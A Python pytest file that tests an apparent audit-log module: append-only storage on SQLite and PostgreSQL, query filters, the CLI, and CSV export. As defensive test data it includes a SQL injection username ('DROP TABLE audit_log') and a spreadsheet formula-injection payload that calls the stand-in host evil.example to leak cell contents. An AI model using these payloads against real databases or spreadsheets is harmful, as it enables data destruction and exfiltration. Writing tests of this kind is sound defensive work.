"""Audit log: append-only on both backends, filters, no update/delete API, CLI."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from coverage.cli.main import main
from coverage.ops import audit
from coverage.ops.audit import AuditError
from coverage.ops.store import Store, StoreError, open_store
from tests.support import pg

T0 = datetime(2026, 11, 25, 3, 0, tzinfo=UTC)


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Store]:
    with open_store(pg.backend_url(request.param, tmp_path)) as s:
        yield s


def fill(store: Store) -> None:
    audit.record(store, "login", user="ana", at=T0)
    audit.record(store, "scenario_run", user="ana", at=T0 + timedelta(minutes=1),
                 detail={"scenario": "suspend 42", "suspended": 42})
    audit.record(store, "export", user="ben", at=T0 + timedelta(minutes=2),
                 detail={"file": "gaps.pdf", "sha256": "ab" * 32})
    audit.record(store, "upload", user="ben", at=T0 + timedelta(minutes=3),
                 detail={"file": "roads.zip", "bytes": 1234})
    audit.record(store, "login_failed", user="x'); DROP TABLE audit_log; --",
                 at=T0 + timedelta(minutes=4))


def test_query_filters(store: Store) -> None:
    fill(store)
    assert [e.action for e in audit.query(store)] == [
        "login_failed", "upload", "export", "scenario_run", "login"]  # newest first
    assert [e.action for e in audit.query(store, user="ana")] == ["scenario_run", "login"]
    assert [e.user for e in audit.query(store, action="export")] == ["ben"]
    window = audit.query(store, since=T0 + timedelta(minutes=1), until=T0 + timedelta(minutes=3))
    assert [e.action for e in window] == ["export", "scenario_run"]
    assert len(audit.query(store, limit=2)) == 2
    (run,) = audit.query(store, action="scenario_run")
    assert run.details == {"scenario": "suspend 42", "suspended": 42}
    assert run.at == T0 + timedelta(minutes=1)
    (odd,) = audit.query(store, user="x'); DROP TABLE audit_log; --")
    assert odd.action == "login_failed"
    assert store.count("audit_log") == 5


def test_log_refuses_update_and_delete(store: Store) -> None:
    fill(store)
    with pytest.raises(StoreError, match="append-only"), store.transaction() as tx:
        tx.execute("UPDATE audit_log SET username = ? WHERE action = ?", ("mallory", "export"))
    with pytest.raises(StoreError, match="append-only"), store.transaction() as tx:
        tx.execute("DELETE FROM audit_log WHERE username = ?", ("ben",))
    if store.dialect == "postgresql":
        with pytest.raises(StoreError, match="append-only"), store.transaction() as tx:
            tx.execute("TRUNCATE audit_log")
    assert store.count("audit_log") == 5
    assert [e.user for e in audit.query(store, action="export")] == ["ben"]


def test_no_update_or_delete_api() -> None:
    public = [n for n in dir(audit) if not n.startswith("_")]
    assert not [n for n in public if any(w in n.lower() for w in ("update", "delete", "remove",
                                                                    "clear", "purge"))]


def test_bad_entries_and_filters(store: Store) -> None:
    with pytest.raises(AuditError, match="action 'hack' is not one of"):
        audit.record(store, "hack", user="x")
    with pytest.raises(AuditError, match="action 'hack'"):
        audit.query(store, action="hack")
    with pytest.raises(AuditError, match="since: give a date-time with a UTC offset"):
        audit.query(store, since=datetime(2026, 1, 1))
    assert store.count("audit_log") == 0


def test_entries_frame(store: Store) -> None:
    fill(store)
    frame = audit.entries_frame(audit.query(store))
    assert list(frame.columns) == ["id", "at", "user", "action", "detail"]
    assert len(frame) == 5
    assert str(frame["at"].dt.tz) == "UTC"
    assert len(audit.entries_frame([])) == 0


def test_cli_audit(tmp_path: Path, capsys) -> None:
    db = f"sqlite:///{tmp_path}/a.db"
    with open_store(db) as s:
        fill(s)
    assert main(["audit", "--db", db, "--user", "ben", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["action"] for r in rows] == ["upload", "export"]
    assert rows[0]["detail"] == {"file": "roads.zip", "bytes": 1234}
    assert main(["audit", "--db", db, "--since", "2026-11-25T08:02:00+05:00", "--action",
                 "export"]) == 0
    out = capsys.readouterr().out
    assert "gaps.pdf" in out
    assert out.splitlines()[0].split() == ["id", "at", "user", "action", "detail"]
    assert main(["audit", "--db", db, "--since", "yesterday"]) == 2
    assert "is not an ISO 8601 date-time" in capsys.readouterr().err


def test_csv_download_neutralises_formulas(tmp_path: Path) -> None:
    """A sign-in attempt named =HYPERLINK(...) lands in the log as text, never a live cell."""
    import csv
    import io

    from coverage.ops import accounts

    with open_store(f"sqlite:///{tmp_path}/a.db") as store:
        accounts.authenticate(store, '=HYPERLINK("http://evil.example/?"&A1,"click")', "x")
        for name in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
            audit.record(store, "login_failed", user=name, detail={"note": "=1+1"})
        audit.record(store, "export", user="ana", detail={"rows": -3})
        frame = audit.entries_frame(audit.query(store))
    text = audit.safe_csv(frame).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    users = [r["user"] for r in rows]
    assert users[-1] == "'=hyperlink(\"http://evil.example/?\"&a1,\"click\")"
    assert set(users[1:6]) == {"'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"}
    assert users[0] == "ana"  # plain text unchanged
    assert rows[0]["id"].isdigit()  # numbers unchanged
    for r in rows:
        assert not r["user"].startswith(("=", "+", "-", "@", "\t", "\r"))
